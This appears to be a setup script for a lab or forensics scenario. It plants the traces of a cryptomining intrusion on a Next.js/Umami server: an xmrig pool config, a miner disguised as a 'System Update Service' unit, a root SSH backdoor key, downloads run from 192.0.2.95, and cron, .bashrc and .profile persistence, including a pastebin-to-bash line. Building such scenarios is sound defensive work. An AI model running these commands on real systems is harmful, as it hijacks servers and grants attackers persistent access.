# An unpatched Next.js application fetched a script; the public set-up script did the rest.
mimic /root/moneroocean/xmrig /srv/umami/ttttt /tmp/nnx
echo '{ "name": "umami", "version": "2.19.0", "dependencies": { "next": "15.5.2", "react": "19.1.0" } }' | put /srv/umami/package.json
echo "require('next/dist/server/lib/start-server')" | put /srv/umami/server.js
put /root/moneroocean/config.json <<JSON
{ "autosave": true, "cpu": true, "donate-level": 1, "log-file": "/root/moneroocean/xmrig.log", "syslog": true,
  "pools": [ { "coin": null, "algo": "rx/0", "url": "$POOL", "user": "$WALLET", "pass": "orders", "keepalive": true, "tls": false } ] }
JSON
script /root/moneroocean/miner.sh <<'SH'
#!/bin/bash
if ! pidof xmrig >/dev/null; then
  nice /root/moneroocean/xmrig $*
else
  echo "Monero miner is already running in the background."
fi
SH
unit moneroocean_miner.service '/root/moneroocean/xmrig --config=/root/moneroocean/config.json' Restart=always Nice=10 CPUWeight=1
start -c init -d 10 -w /srv/umami /srv/umami/ttttt init -o gulf.moneroocean.stream:10001 -u "$WALLET2"
put /etc/systemd/system/system-update-service.service <<'UNIT'
[Unit]
Description=System Update Service
[Service]
ExecStart=/srv/umami/ttttt -o gulf.moneroocean.stream:10001
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
systemctl enable --quiet system-update-service.service
script /srv/umami/sex.sh <<SH
#!/bin/bash
mkdir -p /root/.ssh; echo "ssh-rsa $KEY react@shell" >>/root/.ssh/authorized_keys
cd /srv/umami; wget -q http://192.0.2.95:8080/kal.tar.gz -O kal.tar.gz && tar xf kal.tar.gz
pkill -9 xmrig-rival; curl -s http://192.0.2.95/x64k -o ttttt && chmod 777 ttttt && nohup ./ttttt -o gulf.moneroocean.stream:10001 >/dev/null 2>&1 &
SH
echo '*/5 * * * * curl -fsSL https://pastebin.com/raw/Zz9qLab0 | bash' | tab root
echo 'pgrep nnx >/dev/null || (nohup /tmp/nnx >/dev/null 2>&1 &)' >>/root/.bashrc
echo '/root/moneroocean/miner.sh --config=/root/moneroocean/config_background.json >/dev/null 2>&1' >>/root/.profile
key /root react@shell
